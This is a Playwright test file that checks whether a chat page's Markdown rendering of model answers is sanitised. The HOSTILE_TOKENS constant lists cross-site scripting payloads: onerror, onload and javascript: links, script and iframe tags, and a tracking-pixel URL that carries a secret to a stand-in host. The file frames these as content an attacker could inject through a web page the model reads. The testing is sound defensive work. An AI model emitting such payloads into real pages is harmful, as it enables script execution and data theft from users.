"""The chat page renders answers as sanitised Markdown with the vendored marked and DOMPurify (issue #15).

The answers come from the scriptable upstream (`testkit.openai_server`) behind the service's `openai`
provider, so a test says exactly what the model writes. The service runs as `python app.py` on the
embedded Redis; the page runs in Debian's chromium through Playwright, and every request to another host
is recorded and aborted.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, Page, Route, expect

from testkit.openai_server import OpenAIServer, Reply
from testkit.service import ServiceProcess
from tests.test_ui import ANSWER_TIMEOUT_MS, chromium, is_local

# Before any script of the page: what ran that should not have (`__ran`), and every violation of the
# page's Content-Security-Policy (an `eval` or an inline script in a library would be one).
WATCH = """
window.__ran = [];
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`);
});
"""

CODE = 'from pathlib import Path\n\ntext = Path("notes.txt").read_text()\nprint(text.upper())'
# An answer in Markdown, split where a stream would split it: mid-word, mid-fence, mid-line.
MARKDOWN_TOKENS = (
    "## Reading ",
    "a file\n\nUse **path",
    "lib** and `read_text()`:\n\n",
    "```py",
    "thon\nfrom pathlib import Path\n",
    "\ntext = Path(",
    '"notes.txt").read_text()\n',
    "print(text.upper())\n",
    "```\n\n",
    "- it closes the file\n",
    "- it decodes UTF-8\n\n",
    "| mode | reads |\n|---|---|\n| `r",
    "` | text |\n\n- [x] re",
    "ad it\n- [ ] write it",
)
# What an attacker would like an answer to carry, for example from a web page the model was shown.
HOSTILE_TOKENS = (
    "Here you are: <img src=x onerror=\"window.__ran.push('img')\"> and ",
    "[click me](javascript:window.__ran.push('link')), ",
    "[mixed case](JaVaScRiPt:window.__ran.push('case')), ",
    "[entity](&#106;avascript:window.__ran.push('entity')).\n\n",
    "<script>window.__ran.push('script')</script>\n\n",
    "<a href=\"javascript:window.__ran.push('raw')\" onclick=\"window.__ran.push('click')\">raw</a>\n\n",
    "![tracking pixel](http://tracker.invalid/pixel.png?c=secret)\n\n",
    "<svg onload=\"window.__ran.push('svg')\"></svg>\n\n",
    "<iframe srcdoc=\"<script>parent.__ran.push('iframe')</script>\"></iframe>",
)
# Every element of the conversation carrying an event handler or a `javascript:` URL, or that loads
# or runs something; none may exist.
ACTIVE_CONTENT = """() => {
  const found = [];
  for (const el of document.querySelectorAll("#messages *")) {
    for (const attribute of el.attributes) {
      const value = attribute.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (attribute.name.toLowerCase().startsWith("on") || value.startsWith("javascript:")) {
        found.push(`${el.tagName} ${attribute.name}=${attribute.value}`);
      }
    }
    if (/^(img|script|svg|iframe|object|embed|form|style)$/i.test(el.tagName)) {
      found.push(el.tagName);
    }
  }
  return found;
}"""


@dataclass
class Tab:
    """A page in a fresh browser context, with what it asked of other hosts and which scripts failed."""

    page: Page
    blocked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    console_errors: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def markdown_service(shared_model_server: OpenAIServer) -> Iterator[ServiceProcess]:
    """`python app.py` on the embedded Redis, its model the scriptable upstream."""
    service = ServiceProcess(
        {
            "LOG_LEVEL": "WARNING",
            "AI_PROVIDER": "openai",
            "OPENAI_BASE_URL": shared_model_server.url,
            "OPENAI_API_KEY": shared_model_server.api_key,
            "AI_MODEL": "test-model",
            "AI_MAX_RETRIES": "0",
            "AI_TIMEOUT": "10",
        }
    )
    try:
        service.start(ready="/health", timeout=30)
        yield service
    finally:
        service.cleanup()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    yield from chromium()


@pytest.fixture
def open_tab(browser: Browser, markdown_service: ServiceProcess) -> Iterator[Callable[..., Tab]]:
    """A page in a fresh context watched by `WATCH`; `bypass_csp=True` lifts the page's content policy,
    so that only the sanitising stands between an answer and a script."""
    contexts: list[BrowserContext] = []

    def open_tab(*, bypass_csp: bool = False) -> Tab:
        context = browser.new_context(base_url=markdown_service.url, bypass_csp=bypass_csp)
        contexts.append(context)
        context.set_default_timeout(ANSWER_TIMEOUT_MS)
        context.add_init_script(WATCH)
        page = context.new_page()
        tab = Tab(page=page)

        def block(route: Route) -> None:
            tab.blocked.append(route.request.url)
            route.abort("blockedbyclient")

        context.route(lambda url: not is_local(url), block)
        page.on("pageerror", lambda error: tab.errors.append(str(error)))
        page.on("console", lambda m: tab.console_errors.append(m.text) if m.type == "error" else None)
        return tab

    yield open_tab
    for context in contexts:
        context.close()


def ask(page: Page, text: str) -> None:
    page.goto("/ui")
    page.get_by_label("User id").fill("markdown-user")
    page.get_by_label("Message").fill(text)
    page.get_by_role("button", name="Send").click()


def finished_answer(page: Page) -> Locator:
    answer = page.locator(".msg[data-role='assistant']").last
    expect(answer).to_have_attribute("data-state", "done")
    return answer.locator(".content")


@pytest.mark.browser
def test_markdown_answer_renders_as_it_streams_with_its_code_block(
    open_tab: Callable[..., Tab], model_server: OpenAIServer
) -> None:
    model_server.script(Reply(tokens=MARKDOWN_TOKENS, delay=0.05))
    tab = open_tab()
    # Every state the answer's text is shown in while it streams, as the page renders it.
    tab.page.add_init_script(
        """new MutationObserver(() => {
          const content = document.querySelector(".msg[data-state='streaming'] .content");
          if (content) window.__states.push(content.innerHTML);
        }).observe(document, { subtree: true, childList: true, characterData: true });
        window.__states = [];"""
    )

    ask(tab.page, "How do I read a file in Python?")

    content = finished_answer(tab.page)
    expect(content.locator("h2")).to_have_text("Reading a file")
    expect(content.locator("strong")).to_have_text("pathlib")
    expect(content.locator("p code")).to_have_text("read_text()")
    expect(content.locator("pre > code")).to_have_text(CODE)
    expect(content.locator("pre > code")).to_have_class("language-python")
    expect(content.locator("ul").first.locator("li")).to_have_text(["it closes the file", "it decodes UTF-8"])
    expect(content.locator("td")).to_have_text(["r", "text"])
    expect(content.locator("input[type='checkbox']")).to_have_count(2)
    expect(content.locator("input[type='checkbox'][checked]")).to_be_disabled()
    states: list[str] = tab.page.evaluate("window.__states")
    assert len(set(states)) > 1, "the answer was not shown while it streamed"
    # Re-rendered as the text grew: a code block was shown before its fence closed.
    assert any("<pre><code" in state and "upper" not in state for state in states), states
    tab.page.reload()  # from history now
    content = finished_answer(tab.page)
    expect(content.locator("pre > code")).to_have_text(CODE)
    assert tab.page.evaluate("window.__violations") == []
    assert tab.blocked == []
    assert tab.errors == []
    assert tab.console_errors == []


@pytest.mark.browser
def test_html_and_javascript_links_in_an_answer_render_inert(
    open_tab: Callable[..., Tab], model_server: OpenAIServer
) -> None:
    model_server.script(Reply(tokens=HOSTILE_TOKENS, delay=0.02))
    tab = open_tab(bypass_csp=True)  # the page's policy would block inline handlers: test without it

    ask(tab.page, "Summarise that web page for me.")

    for shown in ("streamed", "from history"):
        content = finished_answer(tab.page)
        assert tab.page.evaluate(ACTIVE_CONTENT) == [], shown
        # HTML in an answer is shown as the text it is.
        expect(content).to_contain_text("<img src=x onerror=")
        expect(content).to_contain_text("<script>window.__ran.push('script')</script>")
        # A `javascript:` link keeps its text and loses its target; clicking it does nothing.
        for name in ("click me", "mixed case", "entity"):
            link = content.get_by_text(name, exact=True)
            assert link.get_attribute("href") is None, (shown, name)
            link.click()
        # An image is a link to it, never loaded.
        pixel = content.get_by_role("link", name="tracking pixel")
        expect(pixel).to_have_attribute("href", "http://tracker.invalid/pixel.png?c=secret")
        expect(pixel).to_have_attribute("rel", "noopener noreferrer")
        assert tab.page.evaluate("window.__ran") == [], shown
        tab.page.reload()
    assert tab.blocked == []
    assert tab.errors == []
